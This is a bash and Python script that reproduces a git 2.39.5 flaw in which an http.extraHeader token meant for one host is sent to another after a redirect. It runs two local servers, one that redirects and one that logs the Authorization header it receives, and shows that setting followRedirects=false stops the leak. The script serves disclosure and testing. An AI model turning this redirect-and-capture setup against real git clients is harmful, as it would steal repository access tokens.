#!/usr/bin/env bash
# git 2.39.5 (Debian 12): a header for one host is sent to another host.
# `http.URL.extraHeader` passes a token to Git outside of its arguments and files, and only for this URL. With the
# default of `http.followRedirects`, the first request may be redirected to another host. libcurl removes the header
# from the redirected request. All following requests go to the new host, with the header, because Git chose the header
# by the URL of the remote, and not by the URL of the request. So anybody who can redirect the first request for a
# repository gets the token that reads the repository. `http.followRedirects=false` prevents this.
set -euo pipefail
folder="$(mktemp -d)"
trap 'rm -rf "$folder"' EXIT
export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1
git init --quiet --bare "$folder/served.git"
commit="$(git -C "$folder/served.git" -c user.name=x -c user.email=x@example.org commit-tree -m x \
  "$(git -C "$folder/served.git" hash-object -t tree -w /dev/null)")"
git -C "$folder/served.git" update-ref refs/heads/main "$commit"
git init --quiet "$folder/client"
python3 - "$folder" <<'PY' | tee "$folder/seen"
import os
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer

folder = sys.argv[1]


class Trusted(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(302)
        self.send_header("Location", f"http://localhost:{other.server_port}{self.path}")
        self.end_headers()

    def log_message(self, *_):
        pass


class Other(Trusted):
    def do_GET(self):
        served = ["git", "upload-pack", "--stateless-rpc", "--http-backend-info-refs", f"{folder}/served.git"]
        self.answer(b"001e# service=git-upload-pack\n0000" + subprocess.check_output(served))

    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"]))
        self.answer(b"")

    def answer(self, body):
        print(f"another host, {self.command}:", self.headers.get("Authorization"), flush=True)
        self.send_response(200)
        self.send_header("Content-Type", f"application/x-git-upload-pack-{'advertisement' if body else 'result'}")
        self.end_headers()
        self.wfile.write(body)


trusted, other = (HTTPServer(("127.0.0.1", 0), kind) for kind in (Trusted, Other))
for server in (trusted, other):
    threading.Thread(target=server.serve_forever, daemon=True).start()
url = f"http://127.0.0.1:{trusted.server_port}/"
for follow in ("initial", "false"):
    print("http.followRedirects =", follow, flush=True)
    header = f"http.{url}.extraHeader=Authorization: Basic dG9rZW4="
    command = ["git", "-C", f"{folder}/client", "-c", header, "-c", f"http.followRedirects={follow}", "-c", "protocol.version=0"]
    subprocess.run([*command, "fetch", "--quiet", url + "x.git", "main"], stderr=subprocess.DEVNULL, env={**os.environ, "LC_ALL": "C"})
PY
diff "$folder/seen" - <<'SEEN'
http.followRedirects = initial
another host, GET: None
another host, POST: Basic dG9rZW4=
http.followRedirects = false
SEEN
echo "as described"
